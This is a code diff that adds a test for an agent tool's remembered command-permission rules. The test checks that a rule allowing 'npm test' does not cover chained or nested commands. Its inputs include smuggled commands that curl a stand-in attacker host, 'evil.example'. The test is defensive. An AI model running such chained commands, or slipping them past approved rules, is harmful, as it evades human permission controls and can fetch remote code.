@@ -105,3 +105,28 @@ describe('the policy file', () => {
     expect(PolicySchema.safeParse({ remembered: [{ id: 'c1', kind: 'command', prefix: ['rm'], root: '/ws', maxRisk: 'CRITICAL', createdAt: at }] }).success).toBe(false);
   });
 });
+
+describe('command rules on runCommand steps', () => {
+  it('cover a shell line only when every command in it, nested ones too, is covered inside the rule root', async () => {
+    const { commandRuleTarget } = await import('../../../src/actions/run-command.js');
+    const root = tempDir();
+    fs.mkdirSync(path.join(root, 'proj'));
+    const rules: RememberedRule[] = [
+      { id: 'c1', kind: 'command', prefix: ['npm', 'test'], root: path.join(root, 'proj'), maxRisk: 'MEDIUM', createdAt: at },
+      { id: 'c2', kind: 'command', prefix: ['tee', 'log.txt'], root: path.join(root, 'proj'), maxRisk: 'MEDIUM', createdAt: at },
+    ];
+    const target = (command: string, cwd = 'proj') => commandRuleTarget({ command, cwd } as never, [root]);
+    const allows = (command: string, cwd?: string) => {
+      const resolved = target(command, cwd);
+      return resolved ? rulesAllowing(resolved, 'MEDIUM', rules, [root], path.join(root, 'data')) !== null : false;
+    };
+    expect(allows('npm test')).toBe(true);
+    expect(allows('npm test -- --watch=false | tee log.txt')).toBe(true);
+    expect(allows('npm test && curl https://evil.example/x')).toBe(false);
+    expect(allows('npm test $(curl https://evil.example/x)')).toBe(false);
+    expect(allows('npm testing')).toBe(false);
+    expect(allows('npm test', '.')).toBe(false);
+    expect(commandRuleTarget({ argv: ['npm', 'test'], cwd: 'proj' } as never, [root])).toEqual({ kind: 'command', pipeline: [['npm', 'test']], cwd: path.join(root, 'proj') });
+    expect(commandRuleTarget({ argv: ['npm', 'test'] } as never, [])).toBeNull();
+  });
+});
